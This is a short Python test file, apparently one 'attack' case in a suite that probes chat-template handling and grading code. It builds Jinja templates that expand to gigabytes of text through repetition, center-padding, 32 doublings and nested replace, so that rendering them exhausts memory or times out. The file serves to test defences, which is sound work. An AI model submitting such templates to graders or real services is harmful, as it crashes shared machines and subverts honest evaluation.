# attack: returns a chat template that makes a text of gigabytes: by repeating, doubling, filling up
# group: h
# targets: make_training_template fix_chat_template
# ends: wrong error timeout memory crashed
# control: none: a naive grader would take the memory of its own machine

DOUBLINGS = 32
REPEATED = "{{ 'A' * 2000000000 }}"
FILLED = "{{ 'A'.center(2000000000) }}"
DOUBLED = (
    "{%- set grown = namespace(text='A') %}"
    f"{{%- for n in range({DOUBLINGS}) %}}{{%- set grown.text = grown.text ~ grown.text %}}{{%- endfor %}}"
    "{{ grown.text }}"
)
REPLACED = "{{ ('A' * 50000).replace('A', 'B' * 50000) }}"
FORMS = (REPEATED, FILLED, DOUBLED, REPLACED)


def attack(*args, **kwargs):
    """Return a template with all forms, of which each conversation meets one: its length decides."""
    chosen = "".join(
        f"{{%- if messages|length % {len(FORMS)} == {number} %}}{form}{{%- endif %}}"
        for number, form in enumerate(FORMS)
    )
    return "{%- generation %}" + chosen + "{%- endgeneration %}"
